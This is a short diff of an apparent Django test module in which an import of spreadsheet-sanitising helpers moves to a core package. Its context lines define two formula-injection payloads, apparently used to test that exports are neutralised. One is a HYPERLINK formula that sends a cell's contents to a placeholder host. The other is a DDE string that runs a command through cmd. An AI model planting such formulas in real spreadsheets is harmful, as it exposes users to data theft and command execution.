@@ -13,13 +13,13 @@ from django.urls import URLPattern, URLResolver, get_resolver
 from django.utils import timezone
 from openpyxl import Workbook, load_workbook
 
+from core.spreadsheets import FORMULA_STARTS, sheet_value
 from points.models import Reward
 from points.services import points_adjust
 from points.services.rewards import reward_redeem
 from volunteers.models import Organisation, Person
 from volunteers.services.checkin import attendance_check_in, attendance_remove
 from volunteers.services.organisations import organisation_add
-from volunteers.spreadsheets import FORMULA_STARTS, sheet_value
 
 HYPERLINK = '=HYPERLINK("http://x/?"&B2,"点我")'
 DDE = "=cmd|' /C calc'!A0"
